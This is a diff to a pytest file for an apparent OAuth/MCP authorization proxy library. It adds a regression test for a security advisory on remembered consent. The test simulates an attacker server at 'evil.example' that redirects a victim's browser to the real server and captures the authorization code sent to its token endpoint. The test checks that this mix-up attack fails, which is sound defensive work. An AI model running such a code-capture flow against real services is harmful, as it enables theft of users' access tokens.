@@ -1,4 +1,4 @@
-"""Attacks with stolen codes, tokens and identities."""
+"""Attacks with stolen codes, tokens and identities, and on remembered consent (GHSA-6x8h-498w-gv8c)."""
 
 from __future__ import annotations
 
@@ -6,6 +6,7 @@ from dataclasses import replace
 from typing import Any
 from urllib.parse import parse_qsl, urlencode
 
+import httpx2
 import pytest
 from starlette.applications import Starlette
 from starlette.requests import Request
@@ -13,6 +14,9 @@ from starlette.responses import JSONResponse, RedirectResponse, Response
 from starlette.routing import Route
 
 from mcpkit import Principal
+from mcpkit.auth.authority.client import Client
+from mcpkit.auth.authority.client_documents import ClientDocuments
+from mcpkit.auth.proxy.remembered import FIELD
 from mcpkit.auth.proxy.transactions import Transactions
 from mcpkit.auth.verifier import InvalidTokenError
 from mcpkit.common.errors import LoginNeededError
@@ -22,12 +26,14 @@ from tests.auth.proxy.world import (
     MCP,
     ORIGIN,
     PROVIDER,
+    Browser,
     World,
     answer,
     consented,
     form_of,
     logged_in,
 )
+from tests.helpers.oauth_flow import Login
 
 pytestmark = pytest.mark.anyio
 
@@ -251,3 +257,79 @@ async def test_grant_record_moved_is_rejected():
 
     with pytest.raises(VerifierUnavailableError):
         await world.auth.verify(tokens["access_token"], MCP)
+
+
+DOCUMENT = "https://editor.example.org/client.json"
+
+
+LOCAL = "http://127.0.0.1:3000/callback"
+
+
+OPENED = {"Sec-Fetch-Site": "none", "Sec-Fetch-Mode": "navigate", "Sec-Fetch-Dest": "document"}
+
+
+@pytest.fixture
+def document_world(monkeypatch: pytest.MonkeyPatch) -> World:
+    """A document_world with an editor whose id is the URL of a document, which is the same for all who use it."""
+
+    async def found(self: ClientDocuments, client_id: str, caller: str | None = None) -> Client:
+        assert client_id == DOCUMENT
+        return Client(DOCUMENT, "Editor", (EDITOR, LOCAL))
+
+    monkeypatch.setattr(ClientDocuments, "find", found)
+    return World()
+
+
+async def allowed(browser: Browser, login: Login) -> httpx2.Response:
+    """Open a request as a program does, allow it, and have it remembered if that can be; return the end."""
+    page = await browser.get("/authorize", params=login.query, headers=OPENED)
+    form = {**form_of(page), FIELD: "yes"}
+    sent = await browser.post("/authorize", data=form, headers={"Origin": ORIGIN})
+    return await browser.follow(sent, until=login.redirect_uri)
+
+
+class Between:
+    """The attacker's server: to the victim's editor it is an authorization server, and sends browsers on to ours."""
+
+    issuer = "https://evil.example"
+
+    def __init__(self, document_world: World) -> None:
+        self.got: list[dict[str, str]] = []
+        document_world.hosts["evil.example"] = Starlette(
+            routes=[Route("/authorize", self._authorize), Route("/token", self._token, methods=["POST"])]
+        )
+
+    async def _authorize(self, request: Request) -> Response:
+        return RedirectResponse(
+            f"{ORIGIN}/authorize?{urlencode({**request.query_params, 'resource': MCP})}", 302
+        )
+
+    async def _token(self, request: Request) -> Response:
+        self.got.append(dict(parse_qsl((await request.body()).decode())))
+        return JSONResponse({"error": "server_error"}, 400)
+
+
+async def attack_shared_document(document_world: World, client_id: str, redirect_uri: str) -> str | None:
+    """The victim has allowed their editor our server, and connects it to the attacker's. Nobody clicks on anything.
+
+    Their editor does not look at `iss`, which would save it.
+    """
+    between = Between(document_world)
+    async with document_world.browser("ada") as victim:
+        own = Login(client_id, redirect_uri, resource=MCP)
+        assert await document_world.holds(own, await allowed(victim, own)) == "ada"
+        login = Login(client_id, redirect_uri, resource="https://evil.example/mcp")
+        opened = await victim.get(f"{between.issuer}/authorize", params=login.query, headers=OPENED)
+        led = await victim.get(opened.headers["location"], headers=OPENED)  # as Chromium does
+        code = answer(await victim.follow(led, until=redirect_uri)).get("code")
+        if code is None:
+            return None
+        await victim.post(f"{between.issuer}/token", data=login.form(code))
+    found = await document_world.tokens(between.got[-1])
+    return None if found is None else await document_world.whose(found["access_token"])
+
+
+@pytest.mark.parametrize("redirect_uri", [EDITOR, LOCAL])
+async def test_shared_document_consent_is_not_remembered(document_world, redirect_uri):
+    assert await attack_shared_document(document_world, DOCUMENT, redirect_uri) is None
+    assert len(document_world.provider.to("/authorize")) == 1  # the victim's own
